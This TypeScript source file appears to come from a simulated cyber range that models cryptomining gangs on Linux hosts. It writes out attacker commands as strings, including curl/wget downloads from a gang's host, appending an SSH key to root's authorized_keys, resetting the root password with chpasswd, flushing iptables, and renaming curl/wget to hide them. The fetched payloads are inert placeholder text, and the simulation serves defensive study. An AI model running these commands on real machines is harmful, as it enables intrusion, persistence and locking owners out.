import type { FightCategory } from '../../event/finding.ts'
import type { Process } from '../evidence/audit-calls.ts'
import { auditKeyOf, type Host, type RunningMiner } from '../host/host.ts'
import { type Machine, ROOT } from '../machine.ts'
import { fetchOverHttp } from '../network/http.ts'
import { lookUp } from '../network/names.ts'
import type { Random } from '../random.ts'
import { type Act, MINUTE_MS, SECOND_MS } from '../schedule.ts'
import { keepByCron, keepByUnit } from './come-back.ts'
import type { FileTraits, Foothold, Gang, Hands, WayInKind } from './gang.ts'
import { startMiner } from './start-miner.ts'

const DNS_PORT = 53
const HTTP_PORT = 80
const PAUSE_MS = {
  script: { from: 50, to: 600 },
  hand: { from: SECOND_MS, to: 9 * SECOND_MS },
  long: { from: 20 * SECOND_MS, to: 4 * MINUTE_MS },
}
const ROOT_KEYS = '/root/.ssh/authorized_keys'
const SIGKILL = 9
const STARVED_AFTER_MS = { from: 8 * SECOND_MS, to: 45 * SECOND_MS }
/** Stands where a program would: it runs nothing. */
const INERT_LINE = '# Davylamp range: in place of a program. Inert text.\n'
const INERT_LINES = { from: 12, to: 90 }

/** What the stage does for a gang beyond the machine it is on. */
export interface Errands {
  /** Somebody tries to reach another machine from this one. True: it got in. */
  spread(foothold: Foothold, address: string): Act<boolean>
  /** A job of a visit that began before. */
  readonly isContinued?: true
}

export class StagedFoothold implements Foothold {
  readonly gang: Gang
  readonly host: Host
  readonly hands: Hands
  readonly random: Random
  readonly #errands: Errands

  constructor(gang: Gang, host: Host, hands: Hands, random: Random, errands: Errands) {
    this.gang = gang
    this.host = host
    this.hands = hands
    this.random = random
    this.#errands = errands
    if (errands.isContinued !== true) host.occupation.visitBegins(gang)
  }

  get machine(): Machine {
    return this.host.machine
  }

  get isRoot(): boolean {
    return this.hands.user.uid === ROOT.uid
  }

  *pause(kind: 'script' | 'hand' | 'long' = this.hands.isInteractive ? 'hand' : 'script'): Act {
    const { from, to } = PAUSE_MS[kind]
    yield this.machine.nowMs + this.random.between(from, to)
  }

  did(category: FightCategory): void {
    this.host.occupation.did(this.gang, category)
  }

  *fetch(urlPath: string, path: string, traits: FileTraits): Act<boolean> {
    const { curl, wget } = this.host.tools
    const [canCurl, canWget] = [this.host.mayUse('curl', this.gang), this.host.mayUse('wget', this.gang)]
    if (!canCurl && !canWget) return yield* this.#findsNoTool()
    const isCurl = this.random.chance(0.65) ? canCurl : !canWget
    const { ip, name } = this.gang.traits.download
    const url = `http://${name ?? ip}${urlPath}`
    const tool = isCurl
      ? yield* this.hands.run([curl, '-fsSL', '-o', path, url], { replyBytes: 40 })
      : yield* this.hands.run([wget, '-q', '-O', path, url], { replyBytes: 12 })
    if (name !== null) {
      this.machine.calls.connected(tool, this.machine.facts.resolver, DNS_PORT, false)
      yield lookUp(this.machine, name, ip, this.machine.nowMs, this.random)
    }
    this.machine.calls.connected(tool, ip, HTTP_PORT, isCurl)
    const body = INERT_LINE.repeat(this.random.integer(INERT_LINES.from, INERT_LINES.to))
    const agent = isCurl ? 'curl/7.88.1' : 'Wget/1.21.3'
    yield* fetchOverHttp(this.machine, { host: name ?? ip, ip, path: urlPath, agent }, body, this.random)
    return this.write(path, traits, tool)
  }

  *#findsNoTool(): Act<boolean> {
    yield* this.hands.pipe('which curl wget', [['which', 'curl', 'wget']])
    return false
  }

  write(path: string, traits: FileTraits, by: Process = this.#shell()): boolean {
    const { host, machine } = this
    const key = auditKeyOf(path)
    if (host.immutable.has(path)) {
      if (key !== null) machine.calls.failedToOpen(by, path, key)
      return false
    }
    const isNew = traits.isNew ?? !host.files.has(path)
    const options = { isNew, ...(traits.mode === undefined ? {} : { mode: traits.mode }) }
    if (key !== null) machine.calls.opened(by, path, key, options)
    host.files.set(path, this.gang)
    host.ledger.touched(path, traits.what, isNew ? 'created' : 'overwritten', machine.nowMs)
    return true
  }

  remove(path: string, by: Process = this.#shell()): boolean {
    const { host, machine } = this
    const key = auditKeyOf(path)
    if (host.immutable.has(path)) {
      if (key !== null) machine.calls.failedToRemove(by, path, key)
      return false
    }
    if (!host.files.delete(path)) return false
    if (key !== null) machine.calls.removed(by, path, key)
    return true
  }

  rename(from: string, to: string, by: Process): void {
    this.machine.calls.renamed(by, from, to, auditKeyOf(to) ?? 'etcwatch')
    const owner = this.host.files.get(from)
    this.host.files.delete(from)
    this.host.files.set(to, owner ?? this.gang)
  }

  *changeMode(path: string, permissions: number): Act {
    const chmod = yield* this.hands.run([
      'chmod',
      permissions === 0o755 ? '+x' : permissions.toString(8),
      path,
    ])
    this.machine.calls.changedMode(chmod, path, permissions)
  }

  *chattr(flags: string, path: string): Act {
    yield* this.hands.run(['chattr', flags, path])
    if (!this.isRoot) return
    if (flags.startsWith('+') && flags.includes('i')) this.host.immutable.add(path)
    if (flags.startsWith('-') && flags.includes('i')) this.host.immutable.delete(path)
  }

  *startMiner(): Act<RunningMiner | null> {
    return yield* startMiner(this)
  }

  evict(by: Process, matches: (miner: RunningMiner) => boolean): readonly RunningMiner[] {
    const { host, gang, hands } = this
    const canKill = (miner: RunningMiner): boolean => this.isRoot || miner.process.uid === hands.user.uid
    const hit = host.miners.filter((miner) => miner.gang !== gang && canKill(miner) && matches(miner))
    for (const miner of hit) {
      this.machine.calls.killed(by, miner.process, SIGKILL)
      host.endMiner(miner, gang, SIGKILL)
    }
    return hit
  }

  *addCron(place: string, line: string, everyMs: number): Act<boolean> {
    return yield* keepByCron(this, place, line, everyMs)
  }

  wipeCron(matches: ((line: string) => boolean) | null): number {
    const own = this.host.cron.filter((entry) => !entry.isGone && entry.owner !== this.gang)
    const gone = own.filter(
      (entry) => !this.host.immutable.has(entry.place) && (matches?.(entry.line) ?? true),
    )
    for (const entry of gone) entry.isGone = true
    return gone.length
  }

  *addUnit(name: string): Act<boolean> {
    return yield* keepByUnit(this, name)
  }

  *stopUnit(name: string): Act<boolean> {
    yield* this.hands.run(['systemctl', 'stop', `${name}.service`])
    if (!this.host.units.delete(name)) return false
    this.machine.logins.unit(name, false)
    return true
  }

  *addKey(mode: 'append' | 'overwrite'): Act<boolean> {
    const { key } = this.gang.traits
    if (key === null || !this.isRoot) return false
    const redirect = mode === 'append' ? '>>' : '>'
    const line = `echo 'ssh-rsa ${KEY_START}${key.fingerprint} ${key.comment}' ${redirect} ${ROOT_KEYS}`
    const shell = yield* this.hands.builtin(line)
    const traits = { what: 'authorized-keys', isNew: false, mode: '0100600' }
    if (!this.write(ROOT_KEYS, traits, shell)) return false
    if (mode === 'overwrite') this.host.keys.clear()
    this.host.keys.add(this.gang)
    return true
  }

  *changePassword(): Act {
    const password = this.random.text(12, 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789')
    const line = `echo "root:${password}"|chpasswd`
    const chpasswd = yield* this.hands.pipe(line, [['chpasswd']])
    if (!this.isRoot) return
    this.machine.logins.passwordChanged(
      {
        ...chpasswd,
        exe: '/usr/sbin/chpasswd',
        address: null,
        terminal: chpasswd.tty === null ? '?' : `/dev/${chpasswd.tty.replace('pts', 'pts/')}`,
      },
      ROOT.name,
    )
    this.machine.calls.opened(chpasswd, '/etc/shadow', 'identity', { mode: '0100640' })
    this.host.passwordKeeper = this.gang
    this.did('credential-lock-out')
  }

  *blockPort(port: number): Act {
    yield* this.hands.run(['iptables', '-A', 'OUTPUT', '-p', 'tcp', '--dport', String(port), '-j', 'DROP'])
    if (!this.isRoot) return
    this.host.blockedPorts.add(port)
    for (const miner of this.host.miners) {
      if (miner.gang === this.gang || miner.pool.port !== port) continue
      const afterMs = this.random.between(STARVED_AFTER_MS.from, STARVED_AFTER_MS.to)
      this.machine.schedule.at(this.machine.nowMs + afterMs, () => {
        this.host.starveMiner(miner, this.gang)
      })
    }
  }

  *flushFirewall(): Act {
    yield* this.hands.run(['iptables', '-F'])
    yield* this.hands.run(['iptables', '-X'])
    if (this.isRoot) this.host.blockedPorts.clear()
  }

  *sinkName(name: string, address: string = '127.0.0.1'): Act {
    const shell = yield* this.hands.builtin(`echo '${address} ${name}' >> /etc/hosts`)
    if (this.isRoot && this.write('/etc/hosts', { what: 'hosts', isNew: false }, shell))
      this.host.sunkNames.add(name)
  }

  *closeDoor(kind: WayInKind): Act {
    yield* this.hands.run(CLOSING[kind])
    if (!this.isRoot) return
    this.host.doors.delete(kind)
    this.did('closing-the-door')
  }

  *hideTool(tool: 'curl' | 'wget', as: string): Act {
    if (!this.isRoot || this.host.tools[tool] !== tool) return
    const mv = yield* this.hands.run(['mv', `/usr/bin/${tool}`, `/usr/bin/${as}`])
    this.rename(`/usr/bin/${tool}`, `/usr/bin/${as}`, mv)
    this.host.tools[tool] = as
    this.host.toolKeepers.set(tool, this.gang)
    this.did('tool-hiding')
  }

  by(hands: Hands, label: string): Foothold {
    const random = this.random.fork(`${label}@${this.machine.nowMs}`)
    return new StagedFoothold(this.gang, this.host, hands, random, { ...this.#errands, isContinued: true })
  }

  knownHosts(): readonly string[] {
    return this.isRoot ? this.host.knownHosts : []
  }

  *spreadTo(address: string): Act<boolean> {
    return yield* this.#errands.spread(this, address)
  }

  /** The shell itself, where no other program is named as the writer. */
  #shell(): Process {
    const { user } = this.hands
    return {
      pid: this.machine.logindPid,
      ppid: 1,
      comm: 'sh',
      exe: '/usr/bin/dash',
      args: ['sh'],
      cwd: user.home,
      uid: user.uid,
      loginUid: null,
      session: null,
      tty: null,
    }
  }
}

/** How RSA keys begin in Base64; what follows is nobody's. */
const KEY_START = 'AAAAB3NzaC1yc2EAAAADAQABAAABAQ'

const CLOSING: Readonly<Record<WayInKind, readonly [string, ...string[]]>> = {
  'ssh-password': [
    'sed',
    '-i',
    's/^PasswordAuthentication yes/PasswordAuthentication no/',
    '/etc/ssh/sshd_config',
  ],
  'ssh-key': ['rm', '-f', '/root/.ssh/id_rsa'],
  'docker-api': ['iptables', '-I', 'INPUT', '-p', 'tcp', '--dport', '2375', '-j', 'DROP'],
  redis: ['iptables', '-I', 'INPUT', '-p', 'tcp', '--dport', '6379', '-j', 'DROP'],
  'web-exploit': ['iptables', '-I', 'INPUT', '-p', 'tcp', '--dport', '8080', '-j', 'REJECT'],
}
